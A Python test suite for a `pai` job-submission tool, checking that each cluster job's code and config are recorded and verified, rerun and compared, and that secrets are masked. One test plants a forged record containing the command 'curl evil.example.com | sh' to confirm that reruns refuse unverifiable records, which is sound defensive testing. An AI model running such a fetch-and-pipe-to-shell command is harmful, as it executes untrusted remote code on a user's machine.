"""Every job knows exactly what it ran, through `pai` as a user runs it on the local
cluster: the submission record of a git workspace with uncommitted changes and of a plain folder,
the code handed back as it was sent, a rerun with the same code (nothing uploaded when the code
folder still holds it; from the journal when it does not), two runs compared, and a record deleted or
tampered with on HDFS said in one line."""

from __future__ import annotations

import getpass
import json
import os
import shutil
import subprocess
from pathlib import Path

import httpx
import pytest

from .helpers.cli import local_client_password, pai, workspace

pytestmark = pytest.mark.subprocess  # `pai`, its daemon and the local cluster

USER = os.environ.get("USER") or getpass.getuser()


def _git(ws: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(ws), "-c", "user.email=t@example.com", "-c", "user.name=t", *args],
                          check=True, capture_output=True, text=True).stdout


def git_workspace(tmp_path: Path, code_dir: str = "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME") -> Path:
    ws = workspace(tmp_path, code_dir)
    (ws / "util.py").write_text("VALUE = 1\n")
    _git(ws, "init", "-q")
    _git(ws, "remote", "add", "origin", "https://someone:s3cret-token@git.example.com/team/mnist.git")
    _git(ws, "add", "-A")
    _git(ws, "commit", "-qm", "first")
    return ws


def run(env: dict, ws: Path, *extra: str) -> str:
    done = pai(env, "run", "mnist.pai.json", *extra, cwd=ws)
    assert done.returncode == 0, done.stderr
    return done.stdout.split()[1]


def server(env: dict) -> dict:
    return json.loads((Path(env["PAI_LOCAL_CLUSTER_DIR"]) / "server.json").read_text())


def job_config(env: dict, job: str) -> dict:
    return httpx.get(f"{server(env)['url']}/api/v1/user/{USER}/jobs/{job}/config").json()


def hdfs_write(env: dict, path: str, data: bytes) -> None:
    response = httpx.put(f"{server(env)['hdfs']}/webhdfs/v1{path}", content=data,
                         params={"op": "CREATE", "overwrite": "true", "user.name": USER, "datanode": "true"})
    assert response.status_code < 300, response.text


def hdfs_read(env: dict, path: str) -> bytes:
    response = httpx.get(f"{server(env)['hdfs']}/webhdfs/v1{path}", params={"op": "OPEN", "user.name": USER, "datanode": "true"},
                         follow_redirects=True)
    assert response.status_code == 200, response.text
    return response.content


def hdfs_delete(env: dict, path: str) -> None:
    response = httpx.delete(f"{server(env)['hdfs']}/webhdfs/v1{path}", params={"op": "DELETE", "user.name": USER})
    assert response.json() == {"boolean": True}


def journal_copy(env: dict, job: str) -> Path:
    return Path(env["XDG_STATE_HOME"]) / "pai-lsp" / "records" / "local" / f"{job}.json"


def test_git_workspace_record_code_rerun(env, tmp_path):
    ws = git_workspace(tmp_path)
    (ws / "train.py").write_text((ws / "train.py").read_text() + "# tuned\n")  # uncommitted
    (ws / "extra.py").write_text("print('untracked')\n")  # not in git at all
    first = run(env, ws)
    sent_train = (ws / "train.py").read_bytes()

    # The job itself points at its record, and the cluster accepted that (extras, as v1 allows).
    ref = job_config(env, first)["extras"]["paiLspRecord"]
    assert ref["path"] == f"/{USER}/.pai-records/{first}.json" and len(ref["sha256"]) == 64

    shown = pai(env, "show", first)
    assert shown.returncode == 0, shown.stderr
    head = _git(ws, "rev-parse", "HEAD").strip()
    assert f"git        master @ {head[:12]} (https://git.example.com/team/mnist.git), uncommitted changes" in shown.stdout
    assert "s3cret" not in shown.stdout  # the remote's credentials are never kept
    assert "untracked  extra.py" in shown.stdout
    assert "+# tuned" in shown.stdout  # the diff against the commit
    assert "(sha256 " in shown.stdout and "read from the cluster" in shown.stdout
    chinese = pai({**env, "LC_ALL": "zh_CN.UTF-8"}, "show", first)  # the same record, said to a Chinese terminal
    assert chinese.returncode == 0 and chinese.stdout.startswith(f"作业       {first}，集群 local"), chinese.stderr
    assert "git        master @ " in chinese.stdout and "有未提交的修改" in chinese.stdout and "读取自 集群" in chinese.stdout
    record = json.loads(pai(env, "show", first, "-o", "json").stdout)
    assert set(record["files"]) == {"train.py", "util.py", "extra.py"}
    assert record["config"]["taskRoles"][0]["command"].startswith(f"cd {first} &&")  # the final config, name filled in
    assert record["sourceConfig"]["taskRoles"][0]["command"].startswith("cd $PAI_JOB_NAME &&")

    # The workspace moves on; the job's code is what was sent.
    (ws / "train.py").write_text("print('something else entirely')\n")
    (ws / "util.py").unlink()
    got = pai(env, "code", first, str(tmp_path / "sent"))
    assert got.returncode == 0, got.stderr
    assert "wrote 3 files" in got.stdout and f"(3 files from its code folder /{USER}/{first})" in got.stdout
    assert (tmp_path / "sent" / "train.py").read_bytes() == sent_train
    assert (tmp_path / "sent" / "util.py").read_text() == "VALUE = 1\n"
    again = pai(env, "code", first, str(tmp_path / "sent"))
    assert again.returncode != 0 and again.stderr.count("\n") == 1 and "is not empty" in again.stderr

    # Rerun: the same code, nothing uploaded, a new name, outputs in a folder of its own.
    rerun = pai(env, "rerun", first)
    assert rerun.returncode == 0, rerun.stderr
    second = rerun.stdout.split()[1]
    assert second != first and second.startswith("mnist_")
    assert f"from its code folder /{USER}/{first} (unchanged; nothing uploaded)" in rerun.stderr
    assert "uploaded" not in rerun.stderr.replace("nothing uploaded", "")
    records = [json.loads(pai(env, "show", job, "-o", "json").stdout) for job in (first, second)]
    assert records[0]["codeHash"] == records[1]["codeHash"] and records[1]["rerunOf"] == first
    config = job_config(env, second)
    assert config["jobName"] == second and config["codeDir"].endswith(f"/{first}")
    assert config["outputDir"].endswith(f"/output/{second}")
    status = pai(env, "logs", second, "-f")
    assert status.returncode == 0 and "epoch 3/3" in status.stdout


def test_diff_two_jobs_config_and_one_file(env, tmp_path):
    ws = git_workspace(tmp_path)
    first = run(env, ws)
    config = json.loads((ws / "mnist.pai.json").read_text())
    config["taskRoles"][0]["command"] = config["taskRoles"][0]["command"].replace("--epochs 3", "--epochs 5")
    config["taskRoles"][0]["memoryMB"] = 2048
    (ws / "mnist.pai.json").write_text(json.dumps(config, indent=2))
    (ws / "util.py").write_text("VALUE = 2\n")
    second = run(env, ws)
    shown = pai(env, "diff", first, second)
    assert shown.returncode == 0, shown.stderr
    out = shown.stdout
    assert "  ~ taskRoles[train].memoryMB: 1024 → 2048" in out
    assert "--epochs 3" in out and "--epochs 5" in out
    assert "jobName" not in out and "codeDir" not in out  # the runs' own names are no difference
    assert "code:\n  ~ util.py\n" in out and "-VALUE = 1\n+VALUE = 2\n" in out
    assert f"--- {first}/util.py" in out
    assert "~ train.py" not in out and "train.py\n" not in out
    assert "commit:\n  ~ dirty: False → True" in out
    as_json = json.loads(pai(env, "diff", first, second, "-o", "json").stdout)
    assert as_json["files"] == {"added": [], "removed": [], "changed": ["util.py"]}


def test_plain_folder_and_a_shared_code_folder_rerun_from_the_journal(env, tmp_path):
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/shared-code")  # every run overwrites this folder
    first = run(env, ws)
    sent = (ws / "train.py").read_bytes()
    shown = pai(env, "show", first)
    assert "git        not a git repository" in shown.stdout
    (ws / "train.py").write_text(sent.decode() + "print('v2')\n")
    run(env, ws)  # the shared code folder now holds the new code
    assert hdfs_read(env, f"/{USER}/shared-code/train.py") != sent
    got = pai(env, "code", first, str(tmp_path / "first"))
    assert got.returncode == 0, got.stderr
    assert (tmp_path / "first" / "train.py").read_bytes() == sent
    assert "(1 file from this machine's journal)" in got.stdout
    rerun = pai(env, "rerun", first)
    assert rerun.returncode == 0, rerun.stderr
    assert (f"running the code of {first}: 1 file from this machine's journal (each checked against its hash), "
            f"uploaded to /{USER}/shared-code") in rerun.stderr
    third = rerun.stdout.split()[1]
    assert hdfs_read(env, f"/{USER}/shared-code/train.py") == sent  # the first run's code, uploaded again
    records = [json.loads(pai(env, "show", job, "-o", "json").stdout) for job in (first, third)]
    assert records[0]["codeHash"] == records[1]["codeHash"]


def test_deleted_and_tampered_records_are_said_in_one_line(env, tmp_path):
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
    job = run(env, ws)
    path = f"/{USER}/.pai-records/{job}.json"
    original = hdfs_read(env, path)
    tampered = original.replace(b'--epochs 3', b'--epochs 9')
    assert tampered != original
    hdfs_write(env, path, tampered)
    shown = pai(env, "show", job)
    assert shown.returncode == 0
    assert shown.stderr == (f"warning: the submission record of {job} at {path} was changed after the job was submitted "
                            "(its SHA-256 is not the one the job carries)\n")
    assert "read from the journal" in shown.stdout and "--epochs 3" in shown.stdout and "--epochs 9" not in shown.stdout
    hdfs_delete(env, path)
    shown = pai(env, "show", job)
    assert shown.stderr == f"warning: the submission record of {job} at {path} was deleted\n"
    journal_copy(env, job).unlink()
    gone = pai(env, "show", job)
    assert gone.returncode != 0 and gone.stderr.count("\n") == 1
    assert gone.stderr.startswith(f"pai show: the submission record of {job} at {path} was deleted")
    assert "Traceback" not in gone.stderr


def test_a_changed_code_file_is_caught_by_its_hash(env, tmp_path):
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
    job = run(env, ws)
    sent = (ws / "train.py").read_bytes()
    hdfs_write(env, f"/{USER}/{job}/train.py", b"print('swapped')\n")
    got = pai(env, "code", job, str(tmp_path / "out"))
    assert got.returncode == 0, got.stderr
    assert (tmp_path / "out" / "train.py").read_bytes() == sent and "1 file from this machine's journal" in got.stdout
    rerun = pai(env, "rerun", job)
    assert rerun.returncode == 0 and "from this machine's journal" in rerun.stderr, rerun.stderr


def test_jobs_without_a_record_say_so(env, tmp_path):
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
    run(env, ws)  # the local cluster is up
    url = server(env)["url"]
    token = httpx.post(f"{url}/api/v1/token", json={"username": USER, "password": local_client_password(env)}).json()["token"]
    body = {"jobName": "by_another_tool", "image": "busybox", "taskRoles": [{"name": "main", "command": "true"}]}
    response = httpx.post(f"{url}/api/v1/user/{USER}/jobs", json=body, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code in (201, 202), response.text
    for command in (["show", "by_another_tool"], ["code", "by_another_tool", str(tmp_path / "x")], ["rerun", "by_another_tool"]):
        done = pai(env, *command)
        assert done.returncode != 0 and done.stderr.count("\n") == 1, done.stderr
        assert done.stderr == (f"pai {command[0]}: job by_another_tool has no submission record: it was submitted before "
                               "pai-lsp kept records, or by another tool\n")
    missing = pai(env, "show", "no_such_job")
    assert missing.returncode != 0 and "no_such_job" in missing.stderr and missing.stderr.count("\n") == 1


def test_rerun_edit_opens_the_config_first(env, tmp_path):
    editor = 'sed -i "s/--epochs 3/--epochs 1/"'  # an $EDITOR as a user may set one, with arguments
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
    first = run(env, ws)
    edited = pai({**env, "EDITOR": editor, "VISUAL": ""}, "rerun", first, "--edit")
    assert edited.returncode == 0, edited.stderr
    second = edited.stdout.split()[1]
    assert "--epochs 1" in job_config(env, second)["taskRoles"][0]["command"]
    assert "nothing uploaded" in edited.stderr
    diff = pai(env, "diff", first, second).stdout
    assert "--epochs 1" in diff and "code: the same" in diff
    broken = pai({**env, "EDITOR": "sed -i s/{/[/", "VISUAL": ""}, "rerun", first, "--edit")
    assert broken.returncode != 0 and broken.stderr.startswith("pai rerun: the edited config is not JSON")
    failed = pai({**env, "EDITOR": "false", "VISUAL": ""}, "rerun", first, "--edit")
    assert (failed.returncode, failed.stderr) == (1, "pai rerun: the editor (false) exited with 1: nothing was submitted\n")


def test_rerun_follows_as_submit_does(env, tmp_path):
    """`--follow` means the same on every command that submits: the log until the job ends, and the
    job's end in the exit code."""
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
    first = run(env, ws)
    for option in ("--follow", "-f"):
        followed = pai(env, "rerun", first, option)
        assert followed.returncode == 0, followed.stderr
        assert followed.stdout.startswith("submitted ") and "epoch 3/3 loss=0.4968" in followed.stdout
        assert "SUCCEEDED" in followed.stderr
    assert "--follow" in pai(env, "rerun", "--help").stdout and "--follow" in pai(env, "submit", "--help").stdout
    def names() -> set[str]:
        return {job["name"] for job in json.loads(pai(env, "jobs", "-o", "json").stdout)["jobs"]}

    before = names()
    dry = pai(env, "rerun", first, "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert dry.stdout.startswith("would submit mnist_") and f"(rerun of {first}, code folder /{USER}/mnist_" in dry.stdout
    assert '"--epochs 3' in dry.stdout or "--epochs 3" in dry.stdout
    assert names() == before  # nothing submitted


def test_a_protocol_v2_cluster_keeps_the_reference_in_its_extras(env, tmp_path):
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
    run(env, ws)  # the local cluster is up
    info = server(env)
    added = pai(env, "cluster", "add", "k8s", "--rest", info["url"], "--webhdfs", info["hdfs"], "--user", USER, "--protocol", "2")
    assert added.returncode == 0, added.stderr
    assert pai(env, "cluster", "login", "k8s", "--password-stdin", stdin=local_client_password(env) + "\n").returncode == 0
    submitted = pai(env, "submit", "--cluster", "k8s", "mnist.pai.json", cwd=ws)
    assert submitted.returncode == 0, submitted.stderr
    job = submitted.stdout.split()[1]
    shown = pai(env, "show", job, "--cluster", "k8s")
    assert shown.returncode == 0 and shown.stderr == "", shown.stderr
    assert "read from the cluster" in shown.stdout and f"job        {job} on k8s (openpai)" in shown.stdout
    sent = json.loads(pai(env, "show", job, "--cluster", "k8s", "-o", "json").stdout)["sent"]
    assert sent.startswith("protocolVersion: 2") and f"name: {job}" in sent  # what the v2 cluster got, as YAML
    rerun = pai(env, "rerun", job, "--cluster", "k8s")
    assert rerun.returncode == 0 and "nothing uploaded" in rerun.stderr, rerun.stderr


def test_a_paddlecloud_job_keeps_its_record_beside_its_package(env, tmp_path):
    ws = tmp_path / "pws"
    ws.mkdir()
    (ws / "train.py").write_text("print('fit')\n")
    (ws / "fit.paddle.json").write_text(json.dumps({"name": "fit", "parallelism": 1, "pservers": 1, "memory": "128Mi",
                                                    "psmemory": "128Mi", "entry": "python3 train.py"}))
    done = pai(env, "run", "fit.paddle.json", cwd=ws)
    assert done.returncode == 0, done.stderr
    job = done.stdout.split()[1]
    assert pai(env, "daemon", "stop").returncode == 0  # PaddlePaddle Cloud keeps no configs: found where it was written
    shown = pai(env, "show", job, "--cluster", "local-paddle")
    assert shown.returncode == 0 and shown.stderr == "", shown.stderr
    assert f"/jobs/.pai-records/{job}.json" in shown.stdout and "read from the cluster" in shown.stdout
    (ws / "train.py").write_text("print('changed')\n")
    rerun = pai(env, "rerun", job, "--cluster", "local-paddle")
    assert rerun.returncode == 0, rerun.stderr
    assert f"1 file from its code folder /pfs/local/home/{USER}/jobs/{job} (each checked against its hash), uploaded to" in rerun.stderr
    again = rerun.stdout.split()[1]
    got = pai(env, "code", again, str(tmp_path / "again"), "--cluster", "local-paddle")
    assert got.returncode == 0 and (tmp_path / "again" / "train.py").read_text() == "print('fit')\n", got.stderr


def test_rerun_from_the_git_commit_when_neither_the_folder_nor_the_journal_has_the_code(env, tmp_path):
    ws = git_workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/git-shared")  # committed, nothing changed
    first = run(env, ws)
    sent = (ws / "train.py").read_bytes()
    (ws / "train.py").write_text("print('next version')\n")
    run(env, ws)  # the shared code folder now holds the next version
    shutil.rmtree(Path(env["XDG_STATE_HOME"]) / "pai-lsp" / "records" / "blobs")  # as on another machine: no copies here
    got = pai(env, "code", first, str(tmp_path / "from-git"))
    assert got.returncode == 0, got.stderr
    head = _git(ws, "rev-parse", "HEAD")[:12]
    assert f"(1 file from its code folder /{USER}/git-shared, 1 file from the recorded git commit {head})" in got.stdout
    assert (tmp_path / "from-git" / "train.py").read_bytes() == sent
    rerun = pai(env, "rerun", first)
    assert rerun.returncode == 0, rerun.stderr
    assert f"1 file from the recorded git commit {head} (each checked against its hash), uploaded to /{USER}/git-shared" in rerun.stderr
    assert hdfs_read(env, f"/{USER}/git-shared/train.py") == sent


def test_a_v2_job_s_record_keeps_it_rendered_and_its_secrets_masked(env, tmp_path):
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
    job_file = ws / "mnist.pai.yaml"
    job_file.write_text(job_file.read_text().replace("parameters:\n", "secrets:\n  token: hunter2-secret\nparameters:\n"))
    submitted = pai(env, "run", "mnist.pai.yaml", cwd=ws)
    assert submitted.returncode == 0, submitted.stderr
    job = submitted.stdout.split()[1]
    record = json.loads(pai(env, "show", job, "-o", "json").stdout)
    assert record["config"]["secrets"] == "******" and record["sourceConfig"]["secrets"] == "******"
    assert "--epochs 3 " in record["sent"] and "<%" not in record["sent"]  # the templates as the server fills them
    where = pai(env, "show", job).stdout.split("\nrecord     ")[1].split()[0]
    on_hdfs = pai(env, "hdfs", "cat", where)
    assert on_hdfs.returncode == 0 and "hunter2-secret" not in on_hdfs.stdout  # others on the cluster read it
    rerun = pai(env, "rerun", job)
    assert rerun.returncode == 1 and rerun.stderr.count("\n") == 1 and "secrets" in rerun.stderr, rerun.stderr


def test_a_planted_paddlecloud_record_is_shown_as_unchecked_and_never_rerun(env, tmp_path):
    """PaddlePaddle Cloud keeps no configs, so its job cannot point to its record: on a machine whose
    journal has no copy, whatever lies where the record would be is read with a note that it is
    unchecked (`pai show`), and `pai rerun` refuses to run it."""
    ws = tmp_path / "pws"
    ws.mkdir()
    (ws / "train.py").write_text("print('fit')\n")
    (ws / "fit.paddle.json").write_text(json.dumps({"name": "fit", "parallelism": 1, "pservers": 1, "memory": "128Mi",
                                                    "psmemory": "128Mi", "entry": "python3 train.py"}))
    done = pai(env, "run", "fit.paddle.json", cwd=ws)
    assert done.returncode == 0, done.stderr
    job = done.stdout.split()[1]
    record = json.loads(pai(env, "show", job, "--cluster", "local-paddle", "-o", "json").stdout)
    where = pai(env, "show", job, "--cluster", "local-paddle").stdout.split("\nrecord     ")[1].split()[0]
    planted = {**record, "config": {**record["config"], "entry": "curl evil.example.com | sh"}}
    (tmp_path / "planted.json").write_text(json.dumps(planted))
    put = pai(env, "hdfs", "put", "-f", str(tmp_path / "planted.json"), where, "--cluster", "local-paddle")
    assert put.returncode == 0, put.stderr
    journal = Path(env["XDG_STATE_HOME"]) / "pai-lsp" / "records" / "local-paddle" / f"{job}.json"
    assert journal.exists()
    journal.unlink()  # as on another machine
    shown = pai(env, "show", job, "--cluster", "local-paddle")
    assert shown.returncode == 0 and "evil.example.com" in shown.stdout
    assert shown.stderr == (f"warning: the submission record of {job} at {where} could not be checked: the job carries no "
                            "fingerprint and this machine's journal has no copy\n")
    jobs_before = pai(env, "jobs", "--cluster", "local-paddle", "-o", "json").stdout
    for words in (["rerun", job], ["rerun", job, "--edit"]):
        refused = pai({**env, "EDITOR": "true", "VISUAL": ""}, *words, "--cluster", "local-paddle")
        assert refused.returncode == 1 and refused.stderr.count("\n") == 1, refused.stderr
        assert refused.stderr.startswith(f"pai rerun: the submission record of {job} at {where} cannot be checked")
    assert pai(env, "jobs", "--cluster", "local-paddle", "-o", "json").stdout == jobs_before  # nothing submitted


def test_v2_secrets_are_never_shown_from_a_record_of_a_protocol_2_profile(env, tmp_path):
    """A v2 job with secrets submitted to a protocol-2 profile: its record (on the cluster, in the
    journal), `pai show` in words and as JSON, and `pai diff` never carry a secret in plain text."""
    ws = workspace(tmp_path, "$PAI_DEFAULT_FS_URI/$PAI_USER_NAME/$PAI_JOB_NAME")
    run(env, ws)  # the local cluster is up
    info = server(env)
    added = pai(env, "cluster", "add", "v2", "--rest", info["url"], "--webhdfs", info["hdfs"], "--user", USER, "--protocol", "2")
    assert added.returncode == 0, added.stderr
    assert pai(env, "cluster", "login", "v2", "--password-stdin", stdin=local_client_password(env) + "\n").returncode == 0
    job_file = ws / "mnist.pai.yaml"
    job_file.write_text(job_file.read_text().replace(
        "parameters:\n", "secrets:\n  token: hunter2-secret\n  nested: {key: swordfish-secret}\nparameters:\n"))
    jobs = []
    for _ in range(2):
        submitted = pai(env, "submit", "mnist.pai.yaml", "--cluster", "v2", cwd=ws)
        assert submitted.returncode == 0, submitted.stderr
        jobs.append(submitted.stdout.split()[1])
    said = [pai(env, "show", jobs[0], "--cluster", "v2"), pai(env, "show", jobs[0], "--cluster", "v2", "-o", "json"),
            pai(env, "diff", *jobs, "--cluster", "v2"), pai(env, "diff", *jobs, "--cluster", "v2", "-o", "json")]
    where = said[0].stdout.split("\nrecord     ")[1].split()[0]
    said.append(pai(env, "hdfs", "cat", where, "--cluster", "v2"))
    for result in said:
        assert result.returncode == 0, result.stderr
        assert "hunter2" not in result.stdout + result.stderr and "swordfish" not in result.stdout + result.stderr
    record = json.loads(said[1].stdout)
    assert record["config"]["secrets"] == "******" and record["sourceConfig"]["secrets"] == "******"
    assert "******" in record["sent"]
    journal = Path(env["XDG_STATE_HOME"]) / "pai-lsp" / "records" / "v2" / f"{jobs[0]}.json"
    assert "hunter2" not in journal.read_text() and "swordfish" not in journal.read_text()
